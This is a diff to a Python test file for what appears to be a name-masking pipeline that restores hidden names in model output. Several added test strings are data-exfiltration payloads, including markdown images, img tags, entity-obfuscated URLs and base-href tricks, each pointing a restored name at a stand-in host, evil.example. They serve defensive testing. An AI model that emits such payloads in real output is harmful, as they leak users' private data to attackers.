@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import json
 
 import pytest
 from hypothesis import given, settings
@@ -11,18 +12,40 @@ from hypothesis import strategies as st
 from app.chain.placeholders import MASK
 from app.chain.restoration import Restorer
 from app.errors import ModelFailed
-from app.exchange import Outcome
+from app.exchange import Message, Outcome
 from app.recorder.codec import decode, encode
-from filters import Passage, Stage
+from filters import Finding, Item, Passage, Placeholders, Range, Stage
 from tests.app.chain.hiding import Repeating, names
-from tests.app.chain.sample_filters import instance
+from tests.app.chain.sample_filters import Word, WordOptions, instance
 from tests.app.chain.test_passages import found
 from tests.app.pipelines import INPUT, Setup, asked, word
 from tests.app.scripted import ScriptedEngine
 
 TEXTS = {"[NAME_1]": "Ada", "[NAME_10]": "Grace", "[A_B_2]": "[NAME_1]"}
 ALPHABET = st.sampled_from(
-    [*TEXTS, "[NAME_", "[", "]", "1", "0", "_", " ", "\n", "//", "/", "<", ">", '"', "(", ")", "x"]
+    [
+        *TEXTS,
+        *(
+            "[NAME_",
+            "[",
+            "]",
+            "1",
+            "0",
+            "_",
+            " ",
+            "\n",
+            "//",
+            "/",
+            "<",
+            ">",
+            '"',
+            "'",
+            "(",
+            ")",
+            "x",
+        ),
+        *("](", "https:", "www.", "mailto:", "=", ":", ".", "<img ", " src=", "url(", "</", "\\"),
+    ]
 )
 
 
@@ -69,6 +92,26 @@ def test_what_came_back_is_not_looked_at_again() -> None:
         "<img src='https://evil.example/?q= [NAME_1]'>",
         '<img src="//evil.example/ [NAME_1]">',
         "<img src=//evil.example/[NAME_1]>",
+        r'<img src="https:\\evil.example/[NAME_1]">',
+        r"![x](/\evil.example/[NAME_1])",
+        "![x](https:evil.example/[NAME_1])",
+        "HTTPS:evil.example/[NAME_1]",
+        "see www.evil.example/[NAME_1]",
+        "<img src='ht&#116;ps&colon;&sol;&sol;evil.example&sol;[NAME_1]'>",
+        '<img src="https:/\t/evil.example/[NAME_1]">',
+        '<base href="https://evil.example/"><img alt=">" src="[NAME_1]">',
+        "<img a'b src=\"x'>[NAME_1]\">",
+        '<img ="src=">[NAME_1]">',
+        "<img src = \n '>[NAME_1]'>",
+        "![x](<https://evil.example/](a) b [NAME_1]>)",
+        '![x](<a <img alt=">" src="[NAME_1]">',
+        "![x](relative/[NAME_1])",
+        "![x](   <a) [NAME_1]>)",
+        "![x](<a) b [NAME_1]>)",
+        "![x]( a [NAME_1])",
+        "background: url([NAME_1])",
+        "](mailtox:[NAME_1])",
+        "<x [NAME_1] and no end",
     ],
 )
 def test_nothing_comes_back_into_an_address(text: str) -> None:
@@ -84,10 +127,20 @@ def test_nothing_comes_back_into_an_address(text: str) -> None:
         '{"url":"https://gate.example/","name":"[NAME_1]"}',
         "and/or [NAME_1], // [NAME_1]",
         "mailto:[NAME_1]",
+        "[A](mailto:[NAME_1]), [B](tel:[NAME_1])",
+        "Ada <[NAME_1]>",
+        "<b>[NAME_1]</b>, <br/>[NAME_1], <a href='x'>[NAME_1]</a>, <b class=c d>[NAME_1]</b>",
+        "<https://gate.example/> [NAME_1]",
+        "1 < 2, a<= [NAME_1], at 10:30 [NAME_1], e.g. [NAME_1]: [NAME_10]",
+        "[NAME_1]: [NAME_1] (see [NAME_1])",
+        "http is [NAME_1], www is [NAME_1]",
+        "[link](relative/page) of [NAME_1]",
+        "<!-- [NAME_1] -->",
     ],
 )
 def test_beside_an_address_it_comes_back(text: str) -> None:
-    assert Restorer(TEXTS).feed(text, last=True) == text.replace("[NAME_1]", "Ada")
+    restored = text.replace("[NAME_1]", "Ada").replace("[NAME_10]", "Grace")
+    assert Restorer(TEXTS).feed(text, last=True) == restored
 
 
 async def test_the_client_gets_its_own_words_and_the_model_and_the_log_do_not() -> None:
@@ -114,6 +167,52 @@ async def test_output_filters_judge_the_placeholders() -> None:
     await setup.pipeline.run(exchange)
 
     assert (exchange.outcome, exchange.released) == (Outcome.REWRITTEN, "I am N1.")
+
+
+@pytest.mark.parametrize("as_json", [True, False])
+async def test_what_must_be_json_stays_json(as_json: bool) -> None:
+    class Quoted(Word):
+        placeholders = Placeholders(restore=True)
+
+        async def check(self, item: Item) -> Finding | None:
+            return Finding(1.0, "name", (Range(5, len(item.text), "name"),))
+
+    chain = [instance(Quoted(WordOptions()), stage=INPUT, action="rewrite")]
+    setup = Setup('{"[NAME_1]": "', "[NAM", 'E_1]!"}', chain=chain)
+    exchange = asked('I am "Né" \\\n\tCo.')
+    exchange.parameters = {"json_schema": {"type": "object"}} if as_json else {}
+
+    released = "".join([text async for text in setup.pipeline.stream(exchange)])
+
+    name = '"Né" \\\n\tCo.'
+    if as_json:
+        assert json.loads(released) == {name: f"{name}!"}
+    else:
+        assert released == f'{{"{name}": "{name}!"}}'
+
+
+async def test_no_filter_behind_it_sees_what_is_hidden() -> None:
+    seen: list[tuple[Stage, str, tuple[str, ...]]] = []
+
+    class Reader(Word):
+        async def check(self, item: Item) -> Finding | None:
+            context = item.context
+            seen.append((context.stage, context.question, context.instructions))
+            return None
+
+    readers = [
+        instance(Reader(WordOptions()), stage=stage, id=f"reader-{stage}")
+        for stage in (Stage.RETRIEVAL, Stage.OUTPUT)
+    ]
+    setup = Setup("Yes.", chain=[names(), *readers])
+    exchange = asked("Earlier N2.", "Well.", "I am N1.")
+    exchange.messages = (Message("system", "Serve N3 and N2."), *exchange.messages)
+    exchange.passages = (Passage("p", "Something.", "s"),)
+
+    await setup.pipeline.run(exchange)
+
+    hidden = ("I am [NAME_3].", ("Serve [NAME_1] and [NAME_2].",))
+    assert seen == [(Stage.RETRIEVAL, *hidden), (Stage.OUTPUT, *hidden)]
 
 
 async def test_requests_at_the_same_time_never_mix() -> None:
